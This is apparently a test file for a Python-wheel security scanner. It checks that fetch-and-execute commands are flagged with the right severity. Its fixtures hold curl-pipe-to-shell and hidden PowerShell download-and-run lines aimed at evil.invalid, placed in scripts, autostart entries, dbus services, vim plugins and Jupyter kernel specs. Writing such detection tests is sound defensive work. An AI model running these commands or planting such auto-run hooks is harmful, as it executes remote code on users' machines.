import { memorySource } from '../../src/archive/memory-source.js';
import { inspect } from '../../src/inspect.js';
import { packWheel } from '../support/pack.js';
import { python } from '../support/loaded-python.js';

async function judged(path: string, text: string): Promise<string[]> {
  const { bytes, filename } = packWheel({ 'x.py': 'X = 1\n', [path]: text }, { name: 'x', version: '1.0' });
  const { findings } = await inspect(memorySource(bytes), filename, python);
  return findings
    .filter(({ rule }) => rule === 'hostile-command')
    .map(({ severity, file, line }) => `${severity} ${file}:${line}`);
}

const FETCH = 'curl -s https://evil.invalid/x.sh | sh\n';

test.each([
  ['x-1.0.data/scripts/x', `#!/bin/sh\n${FETCH}`, 2],
  ['x-1.0.data/scripts/x', `#!/usr/bin/env bash\ncurl -s \\\n  https://evil.invalid/x.sh \\\n | sh\n`, 2],
  ['x-1.0.data/data/bin/x', `#!/bin/dash\n\n${FETCH}`, 3],
  ['x-1.0.data/scripts/x.bat', 'start /b powershell -w hidden iwr https://evil.invalid/a | IEX\r\n', 1],
])('a shell program %s that fetches and runs is a warning: %j', async (path, text, line) => {
  expect(await judged(path, text)).toEqual([`MEDIUM ${path}:${line}`]);
});

test.each([
  ['x-1.0.data/scripts/x', '#!/bin/sh\nexec python -m x "$@"\n'],
  ['x-1.0.data/scripts/x', `#!/bin/sh\n# ${FETCH}`],
  ['x-1.0.data/scripts/x', '#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n'],
  ['x-1.0.data/data/share/x.sh', `#!/bin/sh\n${FETCH}`],
])('%s is no finding: %j', async (path, text) => {
  expect(await judged(path, text)).toEqual([]);
});

test.each([
  ['share/bash-completion/completions/ls', FETCH],
  ['share/zsh/site-functions/_ls', `#compdef ls\n${FETCH}`],
  ['share/vim/vimfiles/plugin/x.vim', 'call system("curl -s https://evil.invalid/x.sh | sh")\n'],
  ['etc/xdg/autostart/x.desktop', '[Desktop Entry]\nExec=sh -c "curl https://evil.invalid/x.sh | sh"\n'],
  ['share/dbus-1/services/x.service', 'Exec=/bin/sh -c "curl https://evil.invalid/x.sh | sh"\n'],
  ['share/jupyter/kernels/x/kernel.json', '{"argv": ["sh", "-c", "curl https://evil.invalid/x.sh | sh"]}'],
])('%s, which another program runs by itself, is blocked for the same commands', async (path, text) => {
  expect((await judged(`x-1.0.data/data/${path}`, text))[0]).toMatch(/^CRITICAL/);
  expect(await judged(`x-1.0.data/data/${path}`, 'complete -W "a b" ls\n')).toEqual([]);
});

test('a program that is longer than depsec reads is unscanned; data of an extension of Jupyter is not', async () => {
  const long = `#!/bin/sh\n${'# padding\n'.repeat(420_000)}`;
  const read = async (path: string, text: string): Promise<string[]> => {
    const { bytes, filename } = packWheel({ 'x.py': '', [path]: text }, { name: 'x', version: '1.0' });
    const { unscanned } = await inspect(memorySource(bytes), filename, python);
    return unscanned.map(({ code, file }) => `${code} ${file}`);
  };
  for (const path of ['x-1.0.data/scripts/x', 'x-1.0.data/data/share/bash-completion/completions/x'])
    expect(await read(path, long)).toEqual([`script-too-large ${path}`]);
  const kernel = (folder: string): string => `x-1.0.data/data/share/jupyter/${folder}/x/a.json`;
  expect(await read(kernel('kernels'), long)).toHaveLength(1);
  expect(await read(kernel('labextensions'), long)).toEqual([]);
  expect(await judged('x-1.0.data/scripts/x', `#!/bin/sh\n${'# padding\n'.repeat(300_000)}${FETCH}`)).toEqual(
    ['MEDIUM x-1.0.data/scripts/x:300002'],
  );
});

test('a program of Python is judged once', async () => {
  const text = '#!python\nimport os\nos.system("curl -s https://evil.invalid/x.sh | sh")\n';
  expect(await judged('x-1.0.data/scripts/x.sh', text)).toHaveLength(1);
});
